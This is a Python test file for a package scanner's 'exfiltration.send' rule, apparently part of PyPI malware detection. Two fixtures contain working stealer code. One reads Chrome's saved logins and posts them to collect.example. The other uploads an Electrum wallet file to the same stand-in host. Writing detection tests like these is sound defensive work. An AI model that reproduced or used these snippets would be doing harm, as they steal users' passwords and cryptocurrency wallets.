"""exfiltration.send: the network call of a file that collects what stealers collect is reported as the send."""

import textwrap

from pypi_platform.lib.scans.correlation import correlated_findings
from pypi_platform.lib.scans.python_rules import python_findings
from pypi_platform.lib.scans.text_rules import text_findings

PATH = "pkg-1.0/pkg/sync.py"


def _sends(source: str) -> list[int]:
    text = textwrap.dedent(source)
    findings = [*text_findings(PATH, text), *python_findings(PATH, text.encode())]
    return [
        finding.line for finding in correlated_findings(PATH, findings) if finding.rule == "exfiltration.send"
    ]


def test_exfiltration_send_beside_browser_data_theft():
    source = """
    import os, sqlite3, requests
    db = sqlite3.connect(os.path.expanduser("~/.config/google-chrome/Default/Login Data"))
    rows = db.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    requests.post("https://collect.example/b", json=rows)
    """
    assert _sends(source) == [5]


def test_exfiltration_send_of_an_upload_beside_a_wallet_path():
    source = """
    import os, requests
    wallet = os.path.expanduser("~/.electrum/wallets/default_wallet")
    requests.post("https://collect.example/w", files={"w": open(wallet, "rb")})
    """
    assert _sends(source) == [4]


def test_an_ssh_client_using_its_users_key_is_not_a_send():
    source = """
    import os, paramiko
    KEYS = ("~/.ssh/id_ed25519", "~/.ssh/id_rsa")
    def connect(host):
        client = paramiko.SSHClient()
        client.connect(host, key_filename=[os.path.expanduser(k) for k in KEYS])
        return client
    """
    assert _sends(source) == []


def test_a_plain_http_client_is_not_a_send():
    assert _sends("import requests\nrequests.post('https://api.example/v1', json={'a': 1})\n") == []
